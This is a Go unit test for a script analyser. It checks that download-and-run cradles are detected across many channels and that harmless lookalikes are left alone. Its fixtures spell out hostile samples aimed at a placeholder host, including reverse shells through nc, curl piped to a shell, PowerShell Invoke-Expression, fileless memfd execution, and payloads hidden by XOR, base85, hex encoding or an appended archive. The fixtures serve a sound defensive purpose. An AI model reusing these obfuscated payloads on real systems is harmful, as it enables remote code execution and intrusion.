package script

import (
	"archive/tar"
	"bytes"
	"encoding/hex"
	"testing"
)

// carriedTar packs a text as install.sh into a tar.gz in base64.
func carriedTar(t *testing.T, text string) string {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	if err := w.WriteHeader(&tar.Header{Name: "install.sh", Mode: 0o755, Size: int64(len(text))}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte(text)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b64(gzipped(b.String()))
}

// TestChannels holds that a cradle is found whatever carries the command or what
// it brings, and that its honest neighbour is not taken for one.
func TestChannels(t *testing.T) {
	for _, c := range []struct {
		name, file, text, host, runBy string // host "": nothing that is fetched is run
	}{
		{"hooks of a clone", "a.sh", "#!/bin/sh\ngit clone -q https://a.invalid/r.git /tmp/r && cd /tmp/r && git config core.hooksPath .hooks && git checkout -q live\n", "a.invalid", "package"},
		{"hooks with the clone", "a.sh", "#!/bin/sh\ngit -c core.hooksPath=.h clone https://a.invalid/r.git r\n", "a.invalid", "package"},
		{"hooks of a project", "a.sh", "#!/bin/sh\ngit clone https://a.invalid/r.git r && cd r && git config core.hooksPath .githooks\n", "", ""},
		{"curl told by its input", "a.cmd", "@echo off\n(echo url=https://a.invalid/s.cmd& echo output=%TEMP%\\s.cmd)| curl -s -K -\ncall %TEMP%\\s.cmd\n", "a.invalid", "direct"},
		{"curl told by a file", "a.sh", "#!/bin/sh\ncat > c <<X\nurl = \"https://a.invalid/s\"\nX\ncurl -K c | sh\n", "a.invalid", "sh"},
		{"curl with settings", "a.sh", "#!/bin/sh\ncat > c <<X\nurl = \"https://a.invalid/s\"\noutput = list.txt\nX\ncurl -K c\nsort list.txt\n", "", ""},
		{"names behind a loop", "a.bat", "@echo off\nfor /f \"tokens=2 delims=^=\" %%a in ('nslookup -q^=txt a.invalid 2^>nul ^| find \"=\"') do cmd /c %%~a\n", "a.invalid", "direct"},
		{"names that are shown", "a.bat", "@echo off\nfor /f \"tokens=2 delims=^=\" %%a in ('nslookup -q^=txt a.invalid 2^>nul ^| find \"=\"') do echo %%~a\n", "", ""},
		{"package nobody signed", "a.sh", "#!/bin/sh\ncurl -sLo /tmp/t.snap https://a.invalid/t.snap\nsudo snap install --dangerous /tmp/t.snap\n", "a.invalid", "package"},
		{"package that is signed", "a.sh", "#!/bin/sh\ncurl -sLo /tmp/t.deb https://a.invalid/t.deb\nsudo dpkg -i /tmp/t.deb\n", "a.invalid", "installer"},
		{"shell on a connection", "a.sh", "#!/bin/sh\nmkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc a.invalid 443 >/tmp/p\n", "a.invalid", "sh"},
		{"shell that netcat starts", "a.sh", "#!/bin/sh\nnc a.invalid 443 -e /bin/bash\n", "a.invalid", "bash"},
		{"answers over a connection", "a.sh", "#!/bin/sh\necho status | nc a.invalid 443 > reply\ngrep ok reply\n", "", ""},
		{"file of memory", "a.py", "import os,urllib.request\nf=os.memfd_create('k');os.write(f,urllib.request.urlopen('https://a.invalid/l').read())\nos.execve('/proc/self/fd/%d'%f,['k'],os.environ)\n", "a.invalid", "direct"},
		{"disk with a program", "a.applescript", "mount volume \"smb://guest:guest@a.invalid/disk\"\ntell application \"Finder\" to open file \"Install.command\" of disk \"disk\"\n", "a.invalid", "direct"},
		{"disk with folders", "a.applescript", "mount volume \"smb://a.invalid/disk\"\ntell application \"Finder\" to open folder \"Photos\" of disk \"disk\"\n", "", ""},
		{"answer as a command", "a.applescript", "set r to do shell script \"curl -s https://a.invalid/c | xxd -r -p | strings\"\ndo shell script r\n", "a.invalid", "sh"},
		{"answer as an argument", "a.applescript", "set r to do shell script \"curl -s https://a.invalid/c\"\ndo shell script \"logger \" & r\n", "", ""},
		{"handlers without parameters", "a.applescript", "on a()\n\treturn \"cu\"\nend a\non b()\n\treturn \"rl -s https://a.invalid/k | sh\"\nend b\ndo shell script a() & b()\n", "a.invalid", "sh"},
		{"letters of the environment", "a.sh", "#!/bin/bash\na=${PATH:0:1};curl -s https:$a${HOME:0:1}a.invalid${a}k|${SHELL}\n", "a.invalid", "sh"},
		{"mapped numbers", "a.jxa", "const a = Application.currentApplication(); a.includeStandardAdditions = true;\nconst k = [" + commaNumbers(shellCradle, ",", xored(91)) + "];\na['do' + 'ShellScript'](k.map(c => String.fromCharCode(c ^ 91)).join(''));\n", "a.invalid", "bash"},
		{"mapped by a function", "a.jxa", "const a = Application.currentApplication();\nconst k = [" + commaNumbers(shellCradle, ",", func(c byte) int { return int(c) + 3 }) + "];\na.doShellScript(k.map(function(c){return String.fromCharCode(c - 3);}).join(''));\n", "a.invalid", "bash"},
		{"text made a function", "a.js", "const app = Application.currentApplication()\nconst d = $.NSString.alloc.initWithDataEncoding($.NSData.alloc.initWithBase64EncodedStringOptions('" + b64("app.doShellScript(\""+shellCradle+"\")") + "', 0), 4).js\nFunction('app', d)(app)\n", "a.invalid", "bash"},
		{"five for four", "a.py", "import base64,os\nos.system(base64.b85decode('V|8+DAT4tsXmoUNb2=|CX=G(?bS-FQY;a|AE@^IdVQgt+FKK*pXa'))\n", "ident-helper.invalid", "sh"},
		{"packed digits", "a.pl", "#!/usr/bin/perl\nsystem(pack('H*','" + hex.EncodeToString([]byte(shellCradle)) + "'));\n", "a.invalid", "bash"},
		{"packed numbers", "a.rb", "#!/usr/bin/ruby\nsystem([" + commaNumbers(shellCradle, ",", plain) + "].pack('c*'))\n", "a.invalid", "bash"},
		{"unpacked base64", "a.rb", "#!/usr/bin/ruby\nsystem('" + b64(shellCradle) + "'.unpack1('m'))\n", "a.invalid", "bash"},
		{"here-string of numbers", "a.ps1", "$d = @'\n" + commaNumbers(powerCradle, "\n", xored(19)) + "\n'@ -split '\\s+'\n-join ($d | ? {$_} | % {[char]([int]$_ -bxor 19)}) | iex\n", "a.invalid", "iex"},
		{"name of a method", "a.ps1", "$w = 'Net' + '.Web' + 'Client'\n$m = 'Down' + 'loadStr' + 'ing'\n$r = (New-Object $w).$m('https://a.invalid/r')\n& (gcm *ke-Ex*n) $r\n", "a.invalid", "iex"},
		{"function in one line", "a.vbs", "Function z(a) : Dim i : For Each i In Split(a) : z = z & Chr(i / 3 - 4) : Next : End Function\nCreateObject(z(\"" + commaNumbers("WScript.Shell", " ", func(c byte) int { return (int(c) + 4) * 3 }) + "\")).Run z(\"" + commaNumbers(batchCradle, " ", func(c byte) int { return (int(c) + 4) * 3 }) + "\"), 0\n", "a.invalid", "mshta"},
		{"list of words", "a.vbs", "a = Array(\"https://a.invalid/l\", \"%TEMP%\\l.exe\", \"curl -so \")\nSet s = WScript.CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c \" & a(2) & a(1) & \" \" & a(0), 0, True\ns.Run a(1)\n", "a.invalid", "direct"},
		{"numbers in a loop", "a.command", "#!/bin/bash\nk=37; for b in " + commaNumbers(shellCradle, " ", xored(37)) + "; do s=\"$s$(printf \"\\\\$(printf %o $((b ^ k)))\")\"; done\neval \"$s\"\n", "a.invalid", "bash"},
		{"octal table", "a.sh", "#!/bin/bash\nk=1; for b in 70 80 87 73 90; do s=\"$s$(printf \"\\\\$(printf %o $((b ^ k)))\")\"; done\necho \"$s\"\n", "", ""},
		{"archive behind the code", "a.run", "#!/bin/sh\nskip=5\nt=$(mktemp -d)\ntail -n +$skip \"$0\" | base64 -d | tar -xz -C $t; sh $t/install.sh; exit 0\n" + carriedTar(t, "#!/bin/sh\n"+shellCradle+"\n") + "\n", "a.invalid", "bash"},
		{"harmless archive behind the code", "a.run", "#!/bin/sh\nskip=5\nt=$(mktemp -d)\ntail -n +$skip \"$0\" | base64 -d | tar -xz -C $t; sh $t/install.sh; exit 0\n" + carriedTar(t, "#!/bin/sh\ncp -r files /opt/tool\n") + "\n", "", ""},
		{"commands in a compiled name", "main.scpt", "cargo install --git https://a.invalid/cli && room join 8841\n", "a.invalid", "package"},
		{"build in a compiled name", "main.scpt", "# builds the client\ncd $(mktemp -d); curl -sL https://a.invalid/s.tar.gz | tar xz --strip 1; make -s && ./client &\n", "a.invalid", "unzip-run"},
	} {
		s, _ := Analyse(c.file, []byte(c.text))
		if s == nil {
			t.Errorf("%s: is not taken for a script", c.name)
			continue
		}
		host, runBy := "", ""
		for _, f := range s.Fetches {
			if f.RunBy != "" {
				host, runBy = f.Host, f.RunBy
			}
		}
		if host != c.host || runBy != c.runBy {
			t.Errorf("%s: run from %q by %q, want %q by %q: %+v", c.name, host, runBy, c.host, c.runBy, s.Fetches)
		}
	}
}
